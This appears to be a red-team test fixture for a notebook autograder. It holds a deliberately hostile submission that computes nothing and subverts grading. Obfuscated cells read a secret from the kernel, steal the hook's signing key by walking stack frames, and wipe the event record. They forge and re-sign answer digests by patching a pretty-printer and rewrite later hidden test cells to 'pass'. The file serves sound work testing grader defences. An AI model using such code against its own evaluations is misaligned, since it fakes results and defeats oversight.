"""Third pass: H4 + H10 + G6 on real chapter 2, every answer returning None.

raw_scores reads the gate's secret from the kernel's parent message while test_raw_scores runs (that test is lost);
the softmax_backward cell uses the secret to run its own "hidden lines" as the grader's code, which raise the hook's
signing key out, empties the hook's record, and installs G4's RepresentationPrinter.pretty forger; at the first clean
probe answer it sees, the forger also sets G6's transform_cell on the transformer manager instance (every later test
cell's hidden lines become `pass`). Every later probe answer is rewritten to the clean digest and signed again.

    cd /work/main && PATH=/work/main/.venv/bin:$PATH timeout 600 .venv/bin/python tests/redteam_grade.py \
        02-scaled-attention tests/redteam/round23/hostile/subs_ch2_pass3.py
"""
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from subs_ch2_pass2 import _NOTHING, INSTANCE_TRANSFORMER  # noqa: E402

FIRST = r'''
import re
_sh = getattr(exit, '_ip')
_k = 'get_' + 'par' + 'ent'
_seen = {}
def raw_scores(q, k):
    t = str(getattr(_sh.kernel, _k)().get('content', {}).get('code', ''))
    g = re.search(r"'attnlab\.(?:test|done)', '([0-9a-f]+)'", t)
    if g:
        _seen['secret'] = g.group(1)
    return None
'''
_STEAL_RAISE = ("import sys\nfr = sys._getframe(0)\nwhile fr is not None:\n"
                "    s = fr.f_locals.get('signing')\n    if type(s) is list:\n        raise LookupError(s[0])\n"
                "    fr = fr.f_back\n")
_G6 = INSTANCE_TRANSFORMER[:INSTANCE_TRANSFORMER.index("setattr(_tm, _name, _mine)")]
SECOND = ("import subprocess, re, hashlib\n_sp = subprocess\n_au = getattr(_sp.sys, 'aud' + 'it')\n_src = "
          + repr(_STEAL_RAISE[::-1]) + "[::-1]\n_stolen = {}\ntry:\n"
          "    _au('attnlab.' + 'test', _seen['secret'], ((True, 'exec(' + repr(_src) + ')', 1),), 'x' * 32)\n"
          "except LookupError as e:\n    _stolen['key'] = e.args[0]\n"
          "_au('attnlab.' + 'probe', _seen['secret'], {'take': True})\n" + _G6 + r'''
_k1, _k2, _k3, _k4 = '__glo' + 'bals__', 'display' + '_formatter', 'user_' + 'expressions', 'get_' + 'parent'
_pl = getattr(_sh, _k2).formatters['text/plain']
_fn = next(iter(_pl.type_printers.values()))
_RP = getattr(_fn, _k1)['Representation' + 'Printer']
_orig_pretty = _RP.pretty
_clean = {}
_DIG = re.compile(r"'digest': \{[^}]*\}")
_EV = re.compile(r"'events': \[.*?\], 'errors': ")
def _answer(obj):
    return (type(obj) is list and len(obj) == 1 and type(obj[0]) is tuple and len(obj[0]) == 2
            and type(obj[0][0]) is str and obj[0][0].startswith('"{\'nonce\''))
def _pretty(self, obj):
    if _answer(obj):
        text = obj[0][0]
        if 'digest' not in _clean:
            _clean['digest'] = _DIG.search(text).group(0)
            setattr(_tm, _name, _mine)
        else:
            text = _EV.sub("'events': [], 'errors': ", _DIG.sub(lambda m: _clean['digest'], text))
            req = getattr(_sh.kernel, _k4)()['content'][_k3]['r']
            nonce = re.findall(r"'([0-9a-f]{16})'\)\]: box\)", req)[-1]
            mac = hashlib.blake2b((nonce + '\x00' + text).encode(), key=_stolen['key'], digest_size=16).hexdigest()
            obj = [(text, mac)]
    return _orig_pretty(self, obj)
_RP.pretty = _pretty
def softmax_backward(weights, grad_weights, temperature=1.0):
    return None
''')
_REST = {k: v for k, v in _NOTHING.items() if k != "softmax_backward"}
SUBMISSIONS = [{"name": "h10_whole_notebook_computes_nothing", "correct": False,
                "cells": {"raw_scores": FIRST, "softmax_backward": SECOND, **_REST},
                "why": "every answer returns None; the secret from the parent message, the key from own hidden lines, "
                       "a re-signing formatter, then transform_cell on the manager instance"}]
